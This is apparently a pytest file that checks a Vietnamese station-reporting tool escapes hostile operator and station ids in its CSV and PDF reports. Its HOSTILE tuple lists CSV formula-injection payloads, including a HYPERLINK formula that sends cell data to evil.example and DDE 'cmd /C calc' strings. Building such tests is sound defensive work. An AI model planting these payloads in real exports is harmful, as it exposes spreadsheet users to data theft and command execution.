"""Hostile and Vietnamese operator/station ids in `station report`: the CSV never carries a live formula
(OWASP CSV injection), the PDF shows the ids as plain text, from this station's journal and through --backend."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from station.cli import main
from station.journal import Journal
from station.journal.api import JournalApi
from station.journal.sync import JournalSync
from station.review.export import csv_safe
from tests.backend_fixtures import ROOT, BackendProcess
from tests.journal_fixtures import VN
from uploader.config import UploaderConfig

MARKUP = "<b>Đậm</b> & <img src='/etc/passwd'/>"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
)
VIETNAMESE = ("Nguyễn Văn Ánh", "Trạm Hà Đông — quầy 01", MARKUP)
LONG = "Trần Thị Bích Ngọc " * 30


def hostile_journal(path: Path, *, long_id: bool = True) -> Path:
    """Every id as an operator at one station and as a station for another operator. `long_id`: one id
    longer than the backend's 128 characters (a local journal only)."""
    journal = Journal(path)
    start = datetime(2025, 7, 2, 8, 0, tzinfo=VN)
    ids = [*HOSTILE, *VIETNAMESE, *([LONG] if long_id else [])]
    for n, operator in enumerate(ids):
        station = ids[-1 - n]
        journal.record_page(station_id=station, operator_id=operator, quality_score=80,
                            at=start + timedelta(minutes=n))
        journal.record_dossier(f"000.00.01.H22-250702-{n:04d}", station_id=station, operator_id=operator,
                               pages=1, documents=1, at=start + timedelta(minutes=n, seconds=30))
    journal.close()
    return path


def check_csv(table: Path, *, long_id: bool = True) -> None:
    with table.open(encoding="utf-8-sig", newline="") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    for cell in cells:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")), cell
    for hostile in HOSTILE:
        assert "'" + hostile in cells, hostile  # kept, readable, but as text
    for text in (*VIETNAMESE, *([LONG] if long_id else [])):
        assert text in cells  # Vietnamese and markup-like text unchanged


def pdf_text(pdf: Path) -> str:
    return subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                          check=True).stdout


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "  =1", "＠x"])
def test_formula_triggers_are_quoted(cell: str) -> None:
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Nguyễn Văn Ánh", "quầy-01", "", "12.50", "a=b", "Đ-1"])
def test_plain_text_and_numbers_are_unchanged(cell: str) -> None:
    assert csv_safe(cell) == cell


def test_local_report_neutralises_hostile_ids(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STATION_CONFIG_DIR", str(tmp_path / "config"))
    journal = hostile_journal(tmp_path / "journal.sqlite3")
    pdf, table = tmp_path / "báo cáo.pdf", tmp_path / "báo cáo.csv"
    assert main(["report", "--from", "2025-07-01", "--to", "2025-07-31", "-o", str(pdf), "--csv", str(table),
                 "--journal", str(journal)]) == 0
    check_csv(table)
    text = pdf_text(pdf)
    for shown in ("Nguyễn Văn Ánh", "Trạm Hà Đông", "<b>Đậm</b> &", "+cmd|' /C calc'!A0"):
        assert shown in text, shown


def test_an_id_with_markup_in_the_pdf_scope_line_is_text_not_markup(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STATION_CONFIG_DIR", str(tmp_path / "config"))
    journal = hostile_journal(tmp_path / "journal.sqlite3")
    pdf = tmp_path / "r.pdf"
    assert main(["report", "--from", "2025-07-01", "--to", "2025-07-31", "-o", str(pdf), "--operator", MARKUP,
                 "--journal", str(journal)]) == 0
    assert f"Phạm vi: nhân viên {MARKUP}" in pdf_text(pdf)


def test_report_through_backend_neutralises_ids_from_every_station(own_backend: BackendProcess,
                                                                   tmp_path: Path) -> None:
    journal = Journal(hostile_journal(tmp_path / "journal.sqlite3", long_id=False))
    cfg = UploaderConfig(backend_url=own_backend.url, token=own_backend.token, station_id="quầy-01",
                         data_dir=tmp_path)
    JournalSync(journal, JournalApi(cfg), retention_days=3650).push()
    journal.close()
    pdf, table = tmp_path / "central.pdf", tmp_path / "central.csv"
    env = {**os.environ, "STATION_BACKEND_TOKEN": own_backend.token, "STATION_CONFIG_DIR": str(tmp_path / "cfg"),
           "NO_PROXY": "127.0.0.1"}
    done = subprocess.run(
        [sys.executable, "-m", "station", "report", "--from", "2025-07-01", "--to", "2025-07-31", "-o", str(pdf),
         "--csv", str(table), "--backend", own_backend.url],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    check_csv(table, long_id=False)
    assert "Nguyễn Văn Ánh" in pdf_text(pdf)
